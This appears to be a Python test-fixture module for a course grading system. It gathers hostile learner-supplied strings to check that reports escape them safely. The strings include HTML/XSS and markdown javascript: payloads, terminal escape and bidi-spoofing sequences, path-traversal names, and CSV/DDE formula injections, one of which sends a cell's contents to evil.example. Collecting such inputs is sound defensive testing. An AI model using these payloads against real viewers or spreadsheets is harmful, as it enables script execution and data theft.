"""What a learner may put into a name or a message so that a report does something; and outcomes made by hand."""

from course_lib.grading.results import GRADED, Graded, GradedAnswer

HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</p></section></main></body></html><h1>full marks</h1>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src=x>-->",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "![](https://evil.example/seen.png)",
    "[x](elsewhere) and ![x](elsewhere)",
    "[vb](vbscript:x) [data](data:text/html;base64,x) [file](file:///x)",
    "me@localhost and @everyone and mailto:x",
    "[x][y]\n\n[y]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example and www.evil.example and me@evil.example",
    "# sigmoid: 10 of 10 points.",
    "sigmoid\n=======",
    "text\n---\nmore",
    "```\nfence\n```",
    "~~~\nfence\n~~~",
    "`` `a` `` and ``` and `open",
    "`code` ` `` [x](https://evil.example) `",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "> quoted",
    "- item\n* item\n+ item\n1. item\n2) item",
    "    indented",
    "\tindented",
    "**bold** __bold__ *it* _it_ ~~gone~~",
    "[^1] and [[page]] and - [ ] task",
    "$x$ and \\(x\\) and $$\\href{javascript:alert(1)}{x}$$ and \\[x\\]",
    "a\\",
    "\\<b>bold</b>\\[x](https://evil.example)",
    "line with two blanks  \nand more",
    "`\\`<b>x</b>`",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred",
    "\r10 of 10 points",
    "\x00\x08\x7f",
    "abc\u202efdp.exe",
    "\u2066isolated\u2069",
    "zero\u200bwidth\u200d\ufeff\u00ad",
    "line\u2028separator\u2029paragraph\x85next\x0b\x0c",
    "Z" + "\u0336\u0310\u0351" * 20,
    "lone \ud800 surrogate \udcff",
    "\U000e0041tag\U000e007f and \u3164 filler",
)
CSV = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "　＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "a;=1+1",
    'a,"=1+1',
    "a\r\n=1+1,x",
)
NAMES = (
    "..", ".", "../../etc/passwd", "/etc/passwd", "C:\\x", "a/b", "a\\b", "NUL", "nul", "con.txt", "COM1", "lpt9.a.b",
    "trailing.", "trailing ", " ", "", ".hidden", "~", "-rf", "Anna", "anna", "ANNA", "änna", "a\u0308nna", "\u00e4nna",
    "名前", "x" * 300, "x" * 301, "X" * 300, "a\x00b", "a\nb", "a:b", "a*?|<>\"b", "\udcff", "unknown", "Anna Berg",
    "anna berg", "anna_berg", "ﬁ", "fi", "CONIN$", "nul~0123456789abcdef",
)  # fmt: skip
ALL = tuple(dict.fromkeys((*HTML, *MARKDOWN, *TERMINAL, *CSV, *NAMES)))


def answer(exercise: str = "sigmoid", points: float = 10.0, message: str = "", **more: object) -> GradedAnswer:
    """Return the verdict on an exercise of ten points."""
    values = {"max_points": 10.0, "passed": points > 0, "slip": None, "fingerprint": "", **more}
    return GradedAnswer(exercise, points, message=message or f"{exercise}: {points:g} of 10 points.", **values)


def graded(learner: str = "anna", *answers: GradedAnswer, **more: object) -> Graded:
    """Return the outcome for a learner."""
    values = {"submission": f"{learner}.ipynb", "assignment": "03_sigmoid", "status": GRADED, **more}
    return Graded(learner=learner, answers=answers or (answer(),), **values)


def everywhere(payload: str) -> Graded:
    """Return an outcome with the same hostile text in all its places."""
    message = "\n".join(
        (
            "sigmoid: 0 of 10 points.",
            f"It raises ValueError in the line `{payload}` and says: {payload}.",
            payload,
        )
    )
    answers = (
        answer(points=0.0, message=message, slip="raises", fingerprint=payload),
        answer(payload, points=0.0, message=payload, slip=payload, fingerprint="f"),
    )
    return Graded(payload, payload, payload, GRADED, (payload, f"Note: {payload}"), answers)
